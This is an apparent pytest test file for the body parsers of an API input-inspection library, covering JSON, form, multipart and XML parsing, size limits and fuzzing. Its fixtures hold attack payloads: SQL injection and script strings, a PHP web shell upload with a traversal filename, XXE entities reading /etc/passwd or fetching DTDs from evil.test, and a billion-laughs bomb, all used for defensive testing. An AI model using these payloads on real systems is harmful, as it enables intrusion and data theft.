@@ -1,0 +1,474 @@
+"""Body parsers: values and locations per media type, malformed bodies, limits."""
+
+from __future__ import annotations
+
+import random
+
+import orjson
+import pytest
+
+from apishield.findings import Source
+from apishield.inputs import InputRejected, InputValue
+from apishield.parsers import FILE_PREVIEW_BYTES, body_inputs, parse_header_parameters
+from apishield.policy import Limits
+
+LIMITS = Limits()
+Row = tuple[Source, str, str, str]
+
+
+def _located(values: list[InputValue]) -> list[Row]:
+    return [(v.location.source, v.location.name, v.raw, v.text) for v in values]
+
+
+def _parse(body: bytes, content_type: str | None, limits: Limits = LIMITS) -> list[Row]:
+    return _located(body_inputs(body, content_type, limits))
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("application/json", ("application/json", {})),
+        ("Application/JSON ; Charset=UTF-8", ("application/json", {"charset": "UTF-8"})),
+        (
+            'multipart/form-data; boundary="a;b \\"c\\""',
+            ("multipart/form-data", {"boundary": 'a;b "c"'}),
+        ),
+        ('form-data; name=x; filename="a b"', ("form-data", {"name": "x", "filename": "a b"})),
+        ("", ("", {})),
+    ],
+)
+def test_parse_header_parameters(value: str, expected: tuple[str, dict[str, str]]) -> None:
+    assert parse_header_parameters(value) == expected
+
+
+def test_parse_header_parameters_rejects_repeats() -> None:
+    with pytest.raises(ValueError, match="boundary"):
+        parse_header_parameters("multipart/form-data; boundary=a; BOUNDARY=b")
+
+
+JSON_CASES: list[tuple[bytes, list[Row]]] = [
+    (
+        b'{"name": "bob", "age": 7, "ok": true, "none": null}',
+        [
+            (Source.JSON_KEY, "/name", "name", "name"),
+            (Source.JSON, "/name", "bob", "bob"),
+            (Source.JSON_KEY, "/age", "age", "age"),
+            (Source.JSON_KEY, "/ok", "ok", "ok"),
+            (Source.JSON_KEY, "/none", "none", "none"),
+        ],
+    ),
+    (
+        b'{"a": {"b": ["x", {"c": "\\u003cscript\\u003e"}]}}',
+        [
+            (Source.JSON_KEY, "/a", "a", "a"),
+            (Source.JSON_KEY, "/a/b", "b", "b"),
+            (Source.JSON, "/a/b/0", "x", "x"),
+            (Source.JSON_KEY, "/a/b/1/c", "c", "c"),
+            (Source.JSON, "/a/b/1/c", "<script>", "<script>"),
+        ],
+    ),
+    (
+        b'{"a/b": "%252e%252e%252f", "m~n": "&#x3c;x&#62;"}',
+        [
+            (Source.JSON_KEY, "/a~1b", "a/b", "a/b"),
+            (Source.JSON, "/a~1b", "%252e%252e%252f", "../"),
+            (Source.JSON_KEY, "/m~0n", "m~n", "m~n"),
+            (Source.JSON, "/m~0n", "&#x3c;x&#62;", "<x>"),
+        ],
+    ),
+    (b'"just a string"', [(Source.JSON, "", "just a string", "just a string")]),
+    (b"[1, 2.5, false]", []),
+    (
+        b'{"<k>": ""}',
+        [(Source.JSON_KEY, "/<k>", "<k>", "<k>"), (Source.JSON, "/<k>", "", "")],
+    ),
+    # duplicate keys: every value is inspected, not only the last one
+    (
+        b'{"q": "1 OR 1=1", "q" : "safe"}',
+        [
+            (Source.JSON_KEY, "/q", "q", "q"),
+            (Source.JSON, "/q", "1 OR 1=1", "1 OR 1=1"),
+            (Source.JSON_KEY, "/q", "q", "q"),
+            (Source.JSON, "/q", "safe", "safe"),
+        ],
+    ),
+    # colons inside strings do not look like duplicates
+    (
+        b'{"at": "17:00", "url": "http://x"}',
+        [
+            (Source.JSON_KEY, "/at", "at", "at"),
+            (Source.JSON, "/at", "17:00", "17:00"),
+            (Source.JSON_KEY, "/url", "url", "url"),
+            (Source.JSON, "/url", "http://x", "http://x"),
+        ],
+    ),
+]
+
+
+@pytest.mark.parametrize(("body", "expected"), JSON_CASES)
+@pytest.mark.parametrize(
+    "content_type",
+    ["application/json", "application/vnd.api+json; charset=utf-8", "APPLICATION/JSON"],
+)
+def test_json(body: bytes, expected: list[Row], content_type: str) -> None:
+    assert _parse(body, content_type) == expected
+
+
+def test_json_in_a_declared_charset() -> None:
+    body = '{"k": "é<"}'.encode("utf-16")
+    assert _parse(body, "application/json; charset=utf-16")[-1] == (
+        Source.JSON,
+        "/k",
+        "é<",
+        "é<",
+    )
+
+
+@pytest.mark.parametrize("content_type", [None, "text/plain", "application/octet-stream", "x/y"])
+def test_json_is_sniffed_without_a_json_type(content_type: str | None) -> None:
+    assert _parse(b'  {"q": "x"}', content_type) == [
+        (Source.JSON_KEY, "/q", "q", "q"),
+        (Source.JSON, "/q", "x", "x"),
+    ]
+
+
+def test_json_like_text_that_is_not_json_is_one_body_value() -> None:
+    assert _parse(b"{not json", None) == [(Source.BODY, "", "{not json", "{not json")]
+
+
+@pytest.mark.parametrize(
+    ("body", "content_type", "check", "fragment"),
+    [
+        (b'{"a": ', "application/json", "parse.json", "not valid JSON"),
+        (b"{'a': 1}", "application/json", "parse.json", "not valid JSON"),
+        (b"NaN", "application/json", "parse.json", "not valid JSON"),
+        (b'"\\ud800"', "application/json", "parse.json", "not valid JSON"),
+        (b"\xff\xfe", "application/json", "parse.json", "not valid JSON"),
+        (b"<a><b></a>", "application/xml", "parse.xml", "not valid XML"),
+        (b"<a>&undefined;</a>", "text/xml", "parse.xml", "not valid XML"),
+        (b"<a/>", "application/xml; charset=nonsense", "parse.xml", "not valid XML"),
+        (b"x", "text/plain; charset=a; charset=b", "parse.content_type", "given twice"),
+    ],
+)
+def test_malformed_bodies_are_rejected(
+    body: bytes, content_type: str, check: str, fragment: str
+) -> None:
+    with pytest.raises(InputRejected) as caught:
+        body_inputs(body, content_type, LIMITS)
+    assert (caught.value.check, caught.value.status) == (check, 400)
+    assert caught.value.location.source is Source.BODY
+    assert fragment in caught.value.message
+
+
+@pytest.mark.parametrize(
+    ("body", "content_type", "limits", "check", "name"),
+    [
+        (b"[[[[1]]]]", "application/json", Limits(max_depth=3), "limits.depth", "/0/0/0"),
+        (
+            b'{"a":{"b":{"c":{}}}}',
+            "application/json",
+            Limits(max_depth=3),
+            "limits.depth",
+            "/a/b/c",
+        ),
+        (b"[" * 2000 + b"]" * 2000, "application/json", LIMITS, "limits.depth", ""),
+        (b"[1, 2, 3, 4]", "application/json", Limits(max_params=3), "limits.params", ""),
+        (b'{"a": [1, 2], "b": "x"}', None, Limits(max_params=2), "limits.params", ""),
+        (
+            b"a=1&b=2&c=3&d=4",
+            "application/x-www-form-urlencoded",
+            Limits(max_params=3),
+            "limits.params",
+            "",
+        ),
+        (b"<a><b><c><d/></c></b></a>", "text/xml", Limits(max_depth=3), "limits.depth", "/a/b/c/d"),
+        (
+            b'<a x="1" y="2"><b>t</b><c>u</c></a>',
+            "text/xml",
+            Limits(max_params=3),
+            "limits.params",
+            "/a/c",
+        ),
+    ],
+)
+def test_body_limits(
+    body: bytes, content_type: str | None, limits: Limits, check: str, name: str
+) -> None:
+    with pytest.raises(InputRejected) as caught:
+        body_inputs(body, content_type, limits)
+    assert (caught.value.check, caught.value.status) == (check, 400)
+    assert caught.value.location.name == name
+    assert "more than" in caught.value.message or "deeper than" in caught.value.message
+
+
+@pytest.mark.parametrize(
+    ("body", "expected"),
+    [
+        (
+            b"user=bob&q=1+OR+1%3D1&q=%253Cscript%253E&&empty=",
+            [
+                (Source.FORM_KEY, "user", "user", "user"),
+                (Source.FORM, "user", "bob", "bob"),
+                (Source.FORM_KEY, "q", "q", "q"),
+                (Source.FORM, "q", "1+OR+1%3D1", "1 OR 1=1"),
+                (Source.FORM_KEY, "q", "q", "q"),
+                (Source.FORM, "q", "%253Cscript%253E", "<script>"),
+                (Source.FORM_KEY, "empty", "empty", "empty"),
+            ],
+        ),
+        (
+            b"na%6De=caf%C3%A9&raw=\xc3\xa9",
+            [
+                (Source.FORM_KEY, "name", "na%6De", "name"),
+                (Source.FORM, "name", "caf%C3%A9", "café"),
+                (Source.FORM_KEY, "raw", "raw", "raw"),
+                (Source.FORM, "raw", "\u00c3\u00a9", "é"),
+            ],
+        ),
+    ],
+)
+def test_form(body: bytes, expected: list[Row]) -> None:
+    content_type = "application/x-www-form-urlencoded; charset=UTF-8"
+    assert _parse(body, content_type) == expected
+
+
+def _multipart(*parts: bytes, boundary: bytes = b"B0und", newline: bytes = b"\r\n") -> bytes:
+    body = b"preamble" + newline
+    for part in parts:
+        body += b"--" + boundary + newline + part.replace(b"\n", newline) + newline
+    return body + b"--" + boundary + b"--" + newline + b"epilogue"
+
+
+MULTIPART_TYPE = 'multipart/form-data; boundary="B0und"'
+
+
+@pytest.mark.parametrize("newline", [b"\r\n", b"\n"])
+def test_multipart(newline: bytes) -> None:
+    body = _multipart(
+        b'Content-Disposition: form-data; name="title"\n\nhello <b>\nsecond line',
+        b'content-disposition: form-data; name="avatar"; filename="../../x.php"\n'
+        b"Content-Type: image/png\n\n<?php system($_GET['c']); ?>",
+        b"Content-Disposition: form-data; name=doc; filename*=UTF-8''%E2%82%ACa.txt\n"
+        b"Content-Type: text/plain; charset=latin-1\n\n\xe9t\xe9",
+        b'Content-Disposition: form-data; name="empty"\n\n',
+        newline=newline,
+    )
+    nl = newline.decode()
+    assert _parse(body, MULTIPART_TYPE) == [
+        (Source.MULTIPART_NAME, "title", "title", "title"),
+        (Source.MULTIPART, "title", f"hello <b>{nl}second line", f"hello <b>{nl}second line"),
+        (Source.MULTIPART_NAME, "avatar", "avatar", "avatar"),
+        (Source.MULTIPART_NAME, "avatar", "../../x.php", "../../x.php"),
+        (
+            Source.MULTIPART,
+            "avatar",
+            "<?php system($_GET['c']); ?>",
+            "<?php system($_GET['c']); ?>",
+        ),
+        (Source.MULTIPART_NAME, "doc", "doc", "doc"),
+        (Source.MULTIPART_NAME, "doc", "€a.txt", "€a.txt"),
+        (Source.MULTIPART, "doc", "été", "été"),
+        (Source.MULTIPART_NAME, "empty", "empty", "empty"),
+    ]
+
+
+def test_multipart_binary_files_are_previewed() -> None:
+    content = b"<?php evil(); ?>" + b"\x89PNG" * FILE_PREVIEW_BYTES
+    body = _multipart(
+        b'Content-Disposition: form-data; name="f"; filename="a.png"\n'
+        b"Content-Type: image/png\n\n" + content
+    )
+    values = body_inputs(body, MULTIPART_TYPE, LIMITS)
+    assert values[-1].raw.startswith("<?php evil(); ?>")
+    assert len(values[-1].raw) == FILE_PREVIEW_BYTES
+
+
+def test_multipart_boundary_inside_content_does_not_split() -> None:
+    body = _multipart(b'Content-Disposition: form-data; name="a"\n\nx --B0und y')
+    assert _parse(body, MULTIPART_TYPE)[-1][2] == "x --B0und y"
+
+
+@pytest.mark.parametrize(
+    ("body", "content_type", "fragment"),
+    [
+        (b"--B0und\r\n\r\nx\r\n--B0und--", "multipart/form-data", "boundary"),
+        (
+            b"--B0und\r\n\r\nx\r\n--B0und--",
+            "multipart/form-data; boundary=" + "b" * 201,
+            "boundary",
+        ),
+        (
+            b"--B0und\r\nContent-Disposition: form-data; name=a\r\n\r\nx\r\n",
+            MULTIPART_TYPE,
+            "no closing delimiter",
+        ),
+        (b"no parts at all", MULTIPART_TYPE, "no closing delimiter"),
+        (
+            b"--B0und\r\nContent-Disposition: form-data; name=a\r\n--B0und--",
+            MULTIPART_TYPE,
+            "no end of headers",
+        ),
+        (b"--B0undX\r\n\r\nx\r\n--B0und--", MULTIPART_TYPE, "delimiter line"),
+        (
+            b"--B0und\r\n" + b"X-H: 1\r\n" * 40 + b"\r\nx\r\n--B0und--",
+            MULTIPART_TYPE,
+            "too many headers",
+        ),
+        (
+            b"--B0und\r\nContent-Disposition: form-data; name=a; name=b\r\n\r\nx\r\n--B0und--",
+            MULTIPART_TYPE,
+            "ambiguous",
+        ),
+    ],
+)
+def test_malformed_multipart_is_rejected(body: bytes, content_type: str, fragment: str) -> None:
+    with pytest.raises(InputRejected) as caught:
+        body_inputs(body, content_type, LIMITS)
+    assert caught.value.check == "parse.multipart"
+    assert fragment in caught.value.message
+
+
+def test_multipart_part_count_is_limited() -> None:
+    body = _multipart(*[b'Content-Disposition: form-data; name="p"\n\nv'] * 4)
+    with pytest.raises(InputRejected) as caught:
+        body_inputs(body, MULTIPART_TYPE, Limits(max_params=3))
+    assert caught.value.check == "limits.params"
+
+
+@pytest.mark.parametrize("content_type", ["application/xml", "text/xml", "application/soap+xml"])
+def test_xml(content_type: str) -> None:
+    body = (
+        b'<?xml version="1.0" encoding="UTF-8"?>\n'
+        b'<order id="7" note="&lt;b&gt;">\n'
+        b"  <item>one</item>\n"
+        b"  <item>%3Cscript%3E</item>\n"
+        b"  <text>a <![CDATA[<x>]]> b<br/>c</text>\n"
+        b"</order>"
+    )
+    assert _parse(body, content_type) == [
+        (Source.XML, "/order/@id", "7", "7"),
+        (Source.XML, "/order/@note", "<b>", "<b>"),
+        (Source.XML, "/order/item", "one", "one"),
+        (Source.XML, "/order/item[2]", "%3Cscript%3E", "<script>"),
+        (Source.XML, "/order/text", "a <x> bc", "a <x> bc"),
+    ]
+
+
+@pytest.mark.parametrize(
+    ("body", "doctype", "text"),
+    [
+        (
+            b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+            b"<r>&xxe;</r>",
+            '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
+            "&xxe;",
+        ),
+        (
+            b'<!DOCTYPE r SYSTEM "http://evil.test/x.dtd"><r>a</r>',
+            '<!DOCTYPE r SYSTEM "http://evil.test/x.dtd">',
+            "a",
+        ),
+        (
+            b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.test/p"> %p;]><r>b</r>',
+            '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.test/p"> %p;]>',
+            "b",
+        ),
+        (
+            b'<!DOCTYPE r [<!ENTITY i "inner">]><r>x&i;</r>',
+            '<!DOCTYPE r [<!ENTITY i "inner">]>',
+            "x&i;",  # internal entities are not expanded into text either
+        ),
+    ],
+)
+def test_xml_doctype_is_exposed_and_entities_are_not_resolved(
+    body: bytes, doctype: str, text: str
+) -> None:
+    assert _parse(body, "application/xml") == [
+        (Source.XML, "!DOCTYPE", doctype, doctype),
+        (Source.XML, "/r", text, text),
+    ]
+
+
+def test_xml_billion_laughs_is_rejected() -> None:
+    entities = "".join(
+        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' if i else '<!ENTITY l0 "lol">' for i in range(10)
+    )
+    body = f'<!DOCTYPE r [{entities}]><r a="&l9;"/>'.encode()
+    with pytest.raises(InputRejected) as caught:
+        body_inputs(body, "application/xml", LIMITS)
+    assert caught.value.check == "parse.xml"
+
+
+@pytest.mark.parametrize(
+    ("body", "content_type", "text"),
+    [
+        (b"hello %3Cscript%3E", "text/plain", "hello <script>"),
+        (b"+ADw-script+AD4-", "text/plain; charset=utf-7", "<script>"),
+        (b"caf\xe9", "text/plain; charset=ISO-8859-1", "café"),
+        (b"caf\xc3\xa9 \xc0\xaf", None, "café /"),
+        (b"x", "text/plain; charset=no-such-charset", "x"),
+        (b"x", "text/plain; charset=base64", "x"),  # not a text encoding
+        (b"<xml/>", "application/octet-stream", "<xml/>"),
+    ],
+)
+def test_other_types_are_one_body_value(body: bytes, content_type: str | None, text: str) -> None:
+    [(source, name, _, got)] = _parse(body, content_type)
+    assert (source, name, got) == (Source.BODY, "", text)
+
+
+def test_binary_bodies_are_previewed() -> None:
+    body = b"GIF89a<script>" + b"\x00" * (2 * FILE_PREVIEW_BYTES)
+    [value] = body_inputs(body, "image/gif", LIMITS)
+    assert len(value.raw) == FILE_PREVIEW_BYTES
+    assert value.text == "GIF89a<script>"
+
+
+def test_empty_body_has_no_values() -> None:
+    assert body_inputs(b"", "application/json", LIMITS) == []
+
+
+def _random_body(rng: random.Random) -> bytes:
+    seeds = [
+        b'{"a": ["x", {"b": "%3c"}]}',
+        b"a=1&b=%252e",
+        b'<r x="1"><i>t</i></r>',
+        b'--B\r\nContent-Disposition: form-data; name="n"\r\n\r\nv\r\n--B--\r\n',
+    ]
+    body = bytearray(rng.choice(seeds))
+    for _ in range(rng.randint(0, 6)):
+        position = rng.randint(0, len(body))
+        body[position:position] = rng.randbytes(rng.randint(1, 4))
+    return bytes(body)
+
+
+@pytest.mark.parametrize(
+    "content_type",
+    [
+        None,
+        "application/json",
+        "application/x-www-form-urlencoded",
+        "multipart/form-data; boundary=B",
+        "application/xml",
+        "text/plain; charset=utf-16",
+        "text/plain; charset=\x00",
+        ";;;=",
+    ],
+)
+def test_fuzz_never_crashes(content_type: str | None) -> None:
+    rng = random.Random(f"parsers-{content_type}")
+    for _ in range(500):
+        try:
+            values = body_inputs(_random_body(rng), content_type, LIMITS)
+        except InputRejected as rejected:
+            assert rejected.status == 400
+            continue
+        for value in values:
+            value.raw.encode("utf-8")
+            value.text.encode("utf-8")
+
+
+def test_large_json_document() -> None:
+    document = {"items": [{"id": i, "name": f"n{i}"} for i in range(100)]}
+    values = body_inputs(orjson.dumps(document), "application/json", LIMITS)
+    assert len(values) == 1 + 100 * 3
+    assert values[-1].location.name == "/items/99/name"
